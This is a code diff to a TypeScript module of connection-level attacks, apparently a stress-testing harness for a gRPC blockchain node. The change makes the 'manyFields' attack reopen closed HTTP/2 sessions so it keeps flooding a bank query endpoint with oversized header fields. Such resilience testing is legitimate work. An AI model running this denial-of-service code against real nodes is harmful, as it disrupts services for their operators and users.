@@ -1,6 +1,6 @@
 /** Attacks by connections: clients that do not read, send slowly, never finish, or disconnect. */
 import { once } from 'node:events'
-import type { IncomingHttpHeaders } from 'node:http2'
+import type { ClientHttp2Session, IncomingHttpHeaders } from 'node:http2'
 import { callOf, ENDLESS, NOBODY } from './code.ts'
 import {
   type Attack,
@@ -110,9 +110,15 @@ const FIELDS = Buffer.concat([FIELDS_HEAD, Buffer.alloc(FIELDS_BYTES, Buffer.fro
 export const manyFields: Attack = async (target) => {
   const sessions = [openGrpc(target), openGrpc(target)]
   let next = 0
+  const nextSession = (): ClientHttp2Session => {
+    const number = next++ % 2
+    // A node can ask its clients to connect again.
+    if (sessions[number]!.closed || sessions[number]!.destroyed) sessions[number] = openGrpc(target)
+    return sessions[number]!
+  }
   return (stop, count) =>
     repeat(2, stop, count, async () => {
-      const stream = sessions[next++ % 2]!.request(unary('/sdk.bank.v1beta1.Query/TotalSupply'))
+      const stream = nextSession().request(unary('/sdk.bank.v1beta1.Query/TotalSupply'))
       stream.end(FIELDS)
       let code = 'disconnected'
       for (const event of ['response', 'trailers'])
